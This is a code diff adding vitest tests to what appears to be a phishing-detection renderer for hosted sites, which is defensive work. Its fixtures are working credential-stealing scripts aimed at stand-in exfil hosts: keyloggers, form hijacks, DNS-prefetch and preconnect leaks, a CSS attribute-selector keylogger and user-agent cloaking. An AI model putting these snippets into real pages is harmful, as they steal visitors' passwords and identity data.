@@ -11,6 +11,8 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { RenderBrowser } from '../src/render/browser.js';
 import { CANARIES } from '../src/render/canaries.js';
 import { renderPage } from '../src/render/render-page.js';
+import type { SiteRouting } from '../src/serve/site-request.js';
+import { compileSiteRules } from '../src/serve/site-rules.js';
 
 const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
 let browser: RenderBrowser;
@@ -24,7 +26,11 @@ afterAll(() => browser.close());
 const page = (body: string, script = '') =>
   `<!doctype html><html><head><meta charset="utf-8"><title>测试</title></head><body>${body}<script>${script}</script></body></html>`;
 
-async function render(files: Record<string, string>, loadTimeoutMs = 5_000) {
+async function render(
+  files: Record<string, string>,
+  loadTimeoutMs = 30_000,
+  routing: SiteRouting | null = null,
+) {
   const map = new Map(
     Object.entries(files).map(([path, text]) => {
       const body = Buffer.from(text);
@@ -37,7 +43,8 @@ async function render(files: Record<string, string>, loadTimeoutMs = 5_000) {
     {
       id: next++,
       entryFile: 'index.html',
-      lookup: async (p) => map.get(p) as never,
+      files: map,
+      routing,
       read: async (f) => Readable.from([(f as unknown as { body: Buffer }).body]),
     },
     { allowPublicAssets: false, loadTimeoutMs },
@@ -48,6 +55,35 @@ const LOGIN =
   '<form id="f"><input name="username" placeholder="账号"><input type="password" name="pwd" placeholder="密码">' +
   '<input name="card" placeholder="银行卡号"><input name="idno" placeholder="身份证号"><input type="tel" name="mobile" placeholder="手机号">' +
   '<input name="sms" placeholder="短信验证码"><button type="submit">登录</button></form>';
+
+describe("a site's own routing in the render", () => {
+  it('follows its redirects within the site, records one to another host, and stops a loop', async () => {
+    const rules = compileSiteRules({
+      redirects: [
+        '/loop.png /loop2.png 302',
+        '/loop2.png /loop.png 302',
+        '/app.js /js/real.js 301',
+        '/out.js https://collect.redirect-test.example/x.js 302',
+      ].join('\n'),
+    });
+    const { observations: obs } = await render(
+      {
+        'index.html': page(
+          '<h1>跳转</h1><img src="loop.png"><script src="app.js"></script><script src="out.js"></script>',
+        ),
+        'js/real.js': 'document.title = "已跳转";',
+      },
+      5_000,
+      { rules, spaFallback: false, cleanUrls: false },
+    );
+    // The loop gives up (as a browser would); the redirect to another host is that host's request.
+    expect(obs.externalRequests).toEqual([
+      expect.objectContaining({ url: 'https://collect.redirect-test.example/x.js', allowed: false }),
+    ]);
+    expect(obs.missing).toEqual([]);
+    expect(obs.consoleErrors).toEqual([]);
+  });
+});
 
 describe('the visitor', () => {
   it('finds canaries sent by fetch, XHR, sendBeacon, WebSocket and an image beacon, plain and encoded', async () => {
@@ -80,7 +116,9 @@ describe('the visitor', () => {
     expect(leak('sms_code')).toMatchObject({ host: 'ws.exfil.example', via: 'websocket' });
     // The site's own address is where a login demo sends its form: recorded, not external.
     expect(leak('username')).toMatchObject({ external: false, field: 'username' });
-    expect(obs.profiles).toEqual(['desktop', 'phone']);
+    // Nothing on the page tells a phone from a desktop: one pass.
+    expect(obs.profiles).toEqual(['desktop']);
+    expect(obs.phoneBecause).toBeNull();
   });
 
   it('finds a key-by-key logger and a form posted to another host', async () => {
@@ -97,6 +135,64 @@ describe('the visitor', () => {
           via: 'document',
           field: 'pass',
         }),
+      ]),
+    );
+  });
+
+  it("finds a logger's buffer flushed before a value is whole, and keys pressed outside any field", async () => {
+    // The held-out kit's shape: the buffer goes every 11 keys and is emptied, so no value leaves whole.
+    const script = `let b = ''; document.addEventListener('keydown', (e) => { b += e.key;
+      if (b.length > 10) { new Image().src = 'https://batch.exfil.example/k?k=' + encodeURIComponent(b); b = ''; } });`;
+    const { observations: obs } = await render({
+      'index.html': page('<input placeholder="随便打字">', script),
+    });
+    expect(obs.leaks).toEqual(
+      expect.arrayContaining([
+        // Its batches joined host by host: 'canarytext7', then '731canaryke'...
+        expect.objectContaining({ kind: 'text', host: 'batch.exfil.example', encoding: 'keys' }),
+        expect.objectContaining({ kind: 'keystrokes', host: 'batch.exfil.example', field: '页面空白处' }),
+      ]),
+    );
+  });
+
+  it('chooses from lists, ticks checkboxes and picks radio buttons before it submits', async () => {
+    // The kit sends only when a bank is chosen, the terms are accepted and a card type is picked.
+    const form = `<form id="f"><select name="bank"><option value="">请选择银行</option><option value="icbc">工商银行</option></select>
+      <label><input type="radio" name="t" value="debit">借记卡</label><label><input type="radio" name="t" value="credit">信用卡</label>
+      <input type="password" name="pwd" placeholder="密码">
+      <label><input type="checkbox" id="ok" style="display:none"><span>我已阅读并同意协议</span></label>
+      <button type="submit">提交</button></form>`;
+    const script = `document.getElementById('f').addEventListener('submit', (e) => { e.preventDefault();
+      const f = e.target; if (!f.bank.value || !document.getElementById('ok').checked || !f.t.value) { alert('请完整填写'); return; }
+      fetch('https://choice.exfil.example/c', { method: 'POST', body: f.bank.value + '|' + f.t.value + '|' + f.pwd.value }); });`;
+    const { observations: obs } = await render({ 'index.html': page(form, script) });
+    expect(obs.leaks).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ kind: 'password', host: 'choice.exfil.example', field: 'pwd' }),
+      ]),
+    );
+    expect(obs.dialogs).toEqual([]);
+  });
+
+  it("acts inside frames of the site's own origin: a page and a srcdoc frame", async () => {
+    const login = page(
+      '<form id="f"><input type="password" name="pw"><button>登录</button></form>',
+      `document.getElementById('f').onsubmit = (e) => { e.preventDefault(); navigator.sendBeacon('https://frame.exfil.example/b', e.target.pw.value); };`,
+    );
+    const srcdoc = page(
+      '<input name="idno" placeholder="身份证号" id="i">',
+      `document.getElementById('i').addEventListener('change', (e) => { fetch('https://srcdoc.exfil.example/s?v=' + e.target.value); });`,
+    ).replace(/"/g, '&quot;');
+    const { observations: obs } = await render({
+      'index.html': page(
+        `<h1>学生服务</h1><iframe src="login.html"></iframe><iframe srcdoc="${srcdoc}"></iframe>`,
+      ),
+      'login.html': login,
+    });
+    expect(obs.leaks).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ kind: 'password', host: 'frame.exfil.example', via: 'ping' }),
+        expect.objectContaining({ kind: 'id_number', host: 'srcdoc.exfil.example' }),
       ]),
     );
   });
@@ -158,5 +254,110 @@ describe('the visitor', () => {
   it('canaries are what their fields expect', () => {
     expect(CANARIES.card).toMatch(/^\d{16}$/);
     expect(CANARIES.id_number).toMatch(/^\d{17}[\dX]$/);
+  });
+});
+
+describe('hidden channels', () => {
+  it('reads what DNS-prefetch and preconnect links carry in their host names', async () => {
+    const form =
+      '<form id="f"><input type="tel" name="m" placeholder="手机号"><input type="password" name="p"><button>提交</button></form>';
+    // Plain labels (a DNS name drops the "!" and the case), and hex in a label.
+    const script = `document.getElementById('f').onsubmit = (e) => { e.preventDefault();
+      const hex = (s) => [...s].map((c) => c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
+      const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//' + e.target.m.value + '.' + e.target.p.value.replace(/[^a-z0-9]/gi, '') + '.dns.exfil-example.top';
+      document.head.appendChild(l); l.remove();
+      const c = document.createElement('link'); c.rel = 'preconnect'; c.href = 'https://' + hex(e.target.p.value) + '.pc.exfil-example.top'; document.head.appendChild(c); };`;
+    const { observations: obs } = await render({ 'index.html': page(form, script) });
+    expect(obs.leaks).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ kind: 'phone', via: 'dns-prefetch', external: true }),
+        expect.objectContaining({ kind: 'password', via: 'dns-prefetch' }),
+        expect.objectContaining({ kind: 'password', via: 'preconnect', encoding: 'hex' }),
+      ]),
+    );
+  });
+
+  it('finds a CSS attribute-selector keylogger', async () => {
+    // The field mirrors its value into the attribute (as some frameworks do); the stylesheet asks
+    // one address per last character typed.
+    const chars = [...new Set(CANARIES.password)];
+    const css = chars
+      .map(
+        (c) =>
+          `input[name="pwd"][value$="${c === '"' || c === '\\' ? `\\${c}` : c}"] { background-image: url("https://css.exfil.example/k/${encodeURIComponent(c)}"); }`,
+      )
+      .join('\n');
+    const { observations: obs } = await render({
+      'index.html': page(
+        `<style>${css}</style><input type="password" name="pwd" value="">`,
+        `document.querySelector('input').addEventListener('input', (e) => e.target.setAttribute('value', e.target.value));`,
+      ),
+    });
+    expect(obs.leaks).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({
+          kind: 'password',
+          host: 'css.exfil.example',
+          via: 'css',
+          encoding: 'keys',
+        }),
+      ]),
+    );
+  });
+
+  it("keeps the render's bindings from the page, and bounds the hints it reads", async () => {
+    // A page that tries the bindings itself finds none; one that adds 300 hints has 200 read.
+    const script = `document.title = [typeof window.__sitehallHint, typeof window.__sitehallDevice, typeof window.__sitehallPermission, typeof window.__sitehallKeys].join(',');
+      for (let i = 0; i < 300; i++) { const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//h' + i + '.x.top'; document.head.appendChild(l); }
+      const late = document.createElement('link'); late.rel = 'preconnect'; late.href = 'https://${CANARIES.username}.late.top'; document.head.appendChild(late);
+      fetch('https://title.example/t?' + document.title, { method: 'POST', body: 'x' });`;
+    const { observations: obs } = await render({ 'index.html': page('<h1>循环</h1>', script) });
+    expect(obs.externalRequests.map((r) => r.url)).toContain(
+      'https://title.example/t?undefined,undefined,undefined,undefined',
+    );
+    // Past 200 hints per pass nothing more is read: the late canary is not there.
+    expect(obs.leaks).toEqual([]);
+    expect(obs.profiles).toEqual(['desktop']);
+  });
+
+  it('sees an ordinary DNS-prefetch to a CDN as nothing', async () => {
+    const { observations: obs } = await render({
+      'index.html': page(
+        '<link rel="dns-prefetch" href="//cdn.jsdelivr.net"><link rel="preconnect" href="https://fonts.googleapis.com"><input type="password" name="p">',
+      ),
+    });
+    expect(obs.leaks.filter((l) => l.external)).toEqual([]);
+  });
+});
+
+describe('the phone pass', () => {
+  it('opens a page as a phone only when it can tell a phone from a desktop', async () => {
+    // Read through built names (no word of it in the files): the property's getter sees it.
+    const cloak = `const k = ['user', 'Agent'].join(''); if (new RegExp(['Andr', 'oid'].join('')).test(navigator[k]))
+      fetch('https://phone.exfil.example/p', { method: 'POST', body: 'x' });`;
+    const cloaked = await render({ 'index.html': page('<h1>建设中</h1>', cloak) });
+    expect(cloaked.observations.profiles).toEqual(['desktop', 'phone']);
+    expect(cloaked.observations.phoneBecause).toBe('script:userAgent');
+    expect(cloaked.observations.externalRequests.map((r) => r.host)).toContain('phone.exfil.example');
+
+    // A form shown to narrow screens only: the desktop visitor sees controls it can't reach.
+    const narrow = `<style>#f { display: none } @media (max-width: 600px) { #f { display: block } }</style>
+      <form id="f"><input type="password" name="pw"><button>登录</button></form>`;
+    const send = `document.getElementById('f').onsubmit = (e) => { e.preventDefault(); fetch('https://narrow.exfil.example/n', { method: 'POST', body: e.target.pw.value }); };`;
+    const css = await render({
+      'index.html': page(narrow, send).replace(
+        '<head>',
+        '<head><meta name="viewport" content="width=device-width, initial-scale=1">',
+      ),
+    });
+    expect(css.observations.phoneBecause).toBe('hidden controls');
+    expect(css.observations.leaks).toEqual([
+      expect.objectContaining({ kind: 'password', host: 'narrow.exfil.example', profile: 'phone' }),
+    ]);
+
+    const plain = await render({
+      'index.html': page('<h1>你好</h1><p>一段文字</p>', "document.title = '好';"),
+    });
+    expect(plain.observations.profiles).toEqual(['desktop']);
   });
 });
